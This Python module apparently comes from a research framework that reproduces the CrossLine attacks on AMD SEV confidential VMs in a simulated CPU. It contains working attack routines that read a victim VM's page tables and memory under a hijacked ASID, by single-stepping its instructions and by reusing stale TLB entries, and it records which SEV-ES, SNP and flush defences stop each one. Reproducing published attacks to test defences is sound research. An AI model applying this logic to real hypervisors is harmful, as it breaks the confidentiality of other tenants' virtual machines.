"""E8, A14: a virtual CPU of the adversary's under the victim's ASID."""

from __future__ import annotations

import struct
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from typing import Final

from cbit.attacks.experiments.correspondent import places, with_letters
from cbit.attacks.experiments.registers import FORGED, LOAD, LOADS_AT, NOWHERE, STORE
from cbit.attacks.lab.attack import Range, attack
from cbit.attacks.lab.guest import C_BIT, DB, NPF, Program, Victim
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import AGREES, Field, Figure, Log
from cbit.attacks.lab.outcome import Expectation, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Setup, Stand
from cbit.attacks.lab.tools import Spoofed, Thwarted, gpa_of
from cbit.attacks.power import Power
from cbit.attacks.victim import SAYS, TEXT
from cbit.cpu.mitigations import Mitigations
from cbit.guest.builtin.interface import IMAGE, MEMORY, RESULT, Request
from cbit.spec.address import PAGE

TREASURE = 0x20000  #: a page table of the victim's, with pages that it chose at random
NOISE = 0x200000  #: random words
WORDS = 512
_LEAF_FLAGS: Final = 0x67
_PRESENT: Final = 1
_PUBLISHED_ZERO: Final = 0x7FFF << 48 | 3 << 7
_ADDRESS: Final = (1 << C_BIT) - PAGE

MAPPER = "again: hlt; jmp again"


def mapper(stand: Stand) -> Scene:
    """Start a small program with a page table of random pages, which is a secret: it is how kernels hide.

    Beside it lie random words.  The built-in guest's own tables are no secret: they lead where its public
    image says.
    """
    frames = [int.from_bytes(stand.entropy.draw(4), "little") & (1 << 27) - 1 for _ in range(WORDS)]
    table = b"".join(struct.pack("<Q", frame << 12 | 1 << C_BIT | _LEAF_FLAGS) for frame in frames)
    noise = stand.entropy.draw(stand.number("random_pages") * PAGE)
    program = Program(MAPPER, data=((TREASURE, table), (NOISE, noise)), size=NOISE + len(noise))
    guest = stand.guest(program)
    guest.until_idle()
    planted = guest.peek(TREASURE, PAGE) == table

    def idles_again() -> bool:
        guest.until_idle()
        return guest.peek(TREASURE, PAGE) == table

    serves = _taken_off(stand, guest, works=idles_again)
    secrets = tuple((frame << 12).to_bytes(8, "little") for frame in frames)
    facts = Facts({"table_at": TREASURE, "noise_at": NOISE, "noise_size": len(noise)})
    return Scene(
        secrets,
        facts,
        guest,
        planted=planted,
        serves=serves,
        measure=lambda loot: _of_noise(secrets, noise, loot),
    )


def _of_noise(secrets: Sequence[bytes], noise: bytes, loot: bytes) -> list[Figure]:
    """How many of the random words came out, and how many of those that the published pattern lets out."""
    leaked = {loot[at : at + 8] for at in range(0, len(loot), 8)} - set(secrets)
    words = [word for (word,) in struct.iter_unpack("<Q", noise)]
    came = [word for word in words if struct.pack("<Q", word & _ADDRESS) in leaked]
    return [
        Figure(
            "random words leaked",
            100 * len(came) / len(words),
            f"% of {len(words)}",
            published="derived: 0.00038 % (1 of 2^18: bit 0 set, bits 62:48 and 8:7 clear)",
            source=_PAPER,
            difference="1 of 2^14 here: guests that execute have 39 address bits and the C-bit, so 51:40"
            " have to be clear; bits 62:52 and 8 are not looked at",
        ),
        Figure(
            "random words of the published pattern, leaked",
            sum(map(_is_published, came)),
            f"of {sum(map(_is_published, words))}",
        ),
    ]


def _is_published(word: int) -> bool:
    return bool(word & _PRESENT) and not word & _PUBLISHED_ZERO


_PAPER: Final = "CrossLine (attacks.md A14)"
_NO_KEY: Final = does_not_apply("there is no guest key to borrow: the host reads memory by itself")
_DEFENCES: Final = {
    "deactivated": stopped_by(
        "an ASID that is not activated: VMRUN ends in VMEXIT_INVALID", shown="#VMEXIT(INVALID): ASID"
    )
}
_VMSA: Final = stopped_by("SEV-ES: registers come from the victim's own VMSA")


def _expect(why: str, es: Expectation, snp: str) -> Mapping[Mode, Expectation]:
    return {
        Mode.NONE: _NO_KEY,
        Mode.SME: _NO_KEY,
        Mode.SEV: succeeds(why),
        Mode.SEV_ES: es,
        Mode.SEV_SNP: stopped_by(snp),
    }


@attack(
    title="CrossLine V1: the processor walks the victim's page",
    experiment="E8",
    paper="Li et al., CCS 2021 (attacks.md A14); memory-encryption.md §8 rule 5",
    holds={Power.EDIT_VMCB, Power.MAP_MEMORY},
    expect=_expect(
        "hardware does not remember whose ASID it is",
        succeeds("with the victim's own VMSA"),
        "the walk's read is checked against the RMP",
    ),
    defences=_DEFENCES,
    victim=mapper,
    parameters={"random_pages": Range(64, 1, 1024)},
)
def crossline_v1(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Run an empty virtual machine under the victim's ASID, with CR3 pointing at a page of the victim's.

    The processor fetches: it reads an entry of "the page table" with the victim's key.  If the word looks
    like a present entry, its address goes into the nested walk, which fails, for nothing is mapped, and the
    exit reports the address.  Bits 47:39 of rIP choose the word: one exit for 8 bytes.
    """
    there = 1 << 30  # guest physical address of the stolen page in the adversary's machine
    cpu = hands.spoofed(rip=0, cr3=there | 1 << C_BIT, map_memory=False)

    def page(gpa: int) -> list[bytes | None]:
        cpu.map(there, hands.memory.spa(gpa))
        cpu.cpu.flush()
        return _leak(cpu, there)

    before = cpu.runner.exits
    words = page(facts.number("table_at"))
    exits, told = cpu.runner.exits - before, sum(map(bool, words))
    log.step(
        f"{told} of {WORDS} words of the table came out",
        b"".join(word or bytes(8) for word in words),
        picture=Field(64, bytes(255 if word else 40 for word in words)),
    )
    log.figure(
        "exits for each 8 bytes", exits / max(told, 1), published="1", source=_PAPER, difference=AGREES
    )
    log.figure("entry-shaped words leaked", 100 * told / WORDS, "%")
    start = facts.number("noise_at")
    others = [page(gpa) for gpa in range(start, start + facts.number("noise_size"), PAGE)]
    shares = [sum(map(bool, other)) for other in others]
    log.step(
        f"{sum(shares)} of {WORDS * len(others)} random words came out",
        picture=Field(16, bytes(255 if share else 40 for share in shares)),
    )
    return b"".join(word for some in (words, *others) for word in some if word)


def _leak(cpu: Spoofed, there: int) -> list[bytes | None]:
    words: list[bytes | None] = []
    for index in range(WORDS):
        high = 0xFFFF << 48 if index >= WORDS // 2 else 0
        cpu.registers["rip"] = high | index << 39
        exit = cpu.cpu.run(blocks=100)
        address = gpa_of(exit.info_2) & -PAGE
        leaked = exit.code == NPF and address != there
        words.append(struct.pack("<Q", address) if leaked else None)
    return words


def sitter(stand: Stand) -> Scene:
    """Start the built-in guest, and let it open a letter; then perhaps its ASID is taken from it."""
    scene, guest = with_letters(stand)

    def opens_another() -> bool:
        before = len(guest.small.console.lines)
        guest.small.ask(Request.OPEN)
        return guest.small.console.lines[before:] == guest.small.console.lines[-1:] == [SAYS + TEXT.decode()]

    return replace(scene, serves=scene.serves and _taken_off(stand, guest, works=opens_another))


def _taken_off(stand: Stand, guest: Victim, *, works: Callable[[], bool]) -> bool:
    """Take the victim's ASID from it, if that is the defence; it works again when it is given back before."""
    if stand.variant != "deactivated":
        return works()
    assert guest.sev is not None
    guest.sev.deactivate()
    stand.host.flush()
    guest.sev.activate()
    serves = works()
    guest.sev.deactivate()
    return serves


@attack(
    title="CrossLine V2: one instruction of the victim's",
    experiment="E8",
    paper="Li et al., CCS 2021 (attacks.md A14)",
    holds={Power.EDIT_VMCB},
    expect=_expect(
        "under the victim's ASID its code and its page tables decrypt",
        _VMSA,
        "the VMSA has an owner in the RMP",
    ),
    defences=_DEFENCES,
    victim=sitter,
)
def crossline_v2(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Execute a load and a store of the victim's in a virtual machine of the adversary's own.

    The victim need not even run.  The adversary's VMCB names the victim's ASID and page tables; its nested
    tables map the victim's memory; rIP points at ``mov rax, [rsi + 20]`` in the victim's code.  The trap flag
    ends the turn after one instruction.
    """
    image = facts.data("image")
    load, store = IMAGE + image.index(LOAD), IMAGE + image.index(STORE)
    cpu = hands.spoofed(rip=load, cr3=MEMORY | 1 << C_BIT)

    def loaded(at: int) -> bytes:
        cpu.registers["rip"], cpu.registers["rsi"] = load, at - LOADS_AT
        cpu.stepper.on()
        cpu.runner.until(DB)
        return struct.pack("<Q", cpu.registers["rax"])

    words, before = places(facts, 8), cpu.runner.exits
    loot = b"".join(map(loaded, words))
    exits = cpu.runner.exits - before
    log.step(f"{len(words)} loads", loot)
    cpu.registers["rip"], cpu.registers["rdi"], cpu.registers["rcx"] = store, RESULT, 2
    cpu.registers["rax"] = FORGED
    for _ in range(2):  # each turn of the repeated store is one instruction
        cpu.stepper.on()
        cpu.runner.until(DB)
    log.step("a store, and a load of what it stored", loaded(RESULT))
    log.figure(
        "exits for each 8 bytes",
        8 * exits / len(loot),
        published="derived: 1 (one instruction at a time, which loads 8 bytes; 113.6 ms for 4 KB)",
        source=_PAPER,
        difference=AGREES,
    )
    return loot


@attack(
    title="CrossLine with the victim's own translations",
    experiment="E8",
    paper="Li et al., CCS 2021, TLB-reuse variant (attacks.md A14)",
    holds={Power.EDIT_VMCB, Power.WITHHOLD_FLUSH},
    expect=_expect(
        "translations are tagged with the ASID, and the hypervisor chooses the ASID",
        _VMSA,
        "TLB_ID in the VMSA: another virtual machine's entries do not match",
    ),
    defences={
        **_DEFENCES,
        "flushed": stopped_by(
            "the core flushes the ASID if another virtual CPU of it ran last, as SNP does by PCPU_ID",
            shown="no translation of the victim's is left",
        ),
    },
    victim=sitter,
    setups={"flushed": Setup(mitigations=Mitigations(flushes_for_another_vcpu=True))},
)
def crossline_tlb(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Switch a virtual machine that has no memory at all into SEV mode, under the ASID that ran last.

    No flush was asked for, so the victim's translations are still there.  The adversary's page tables lead
    nowhere and its nested tables are empty: neither is walked.  It fetches the victim's code and loads the
    victim's secrets through what the victim left behind when it looked its key up, and the registers are the
    adversary's.
    """
    load = IMAGE + facts.data("image").index(LOAD)
    cpu = hands.spoofed(rip=load, cr3=0, map_memory=False, flush=False)
    loot = b""
    for at in places(facts, 16):
        cpu.registers["rip"], cpu.registers["rsi"], cpu.registers["rsp"] = load, at - LOADS_AT, NOWHERE
        cpu.runner.until(NPF)
        if cpu.registers["rip"] == load:
            raise Thwarted("the first fetch faults: no translation of the victim's is left")
        loot += struct.pack("<2Q", cpu.registers["rax"], cpu.registers["rcx"])
    log.step("an empty machine has executed loads of the victim's; the return behind them faults", loot)
    log.figure(
        "pages that the adversary's nested tables have",
        len(cpu.mapped),
    )
    return loot
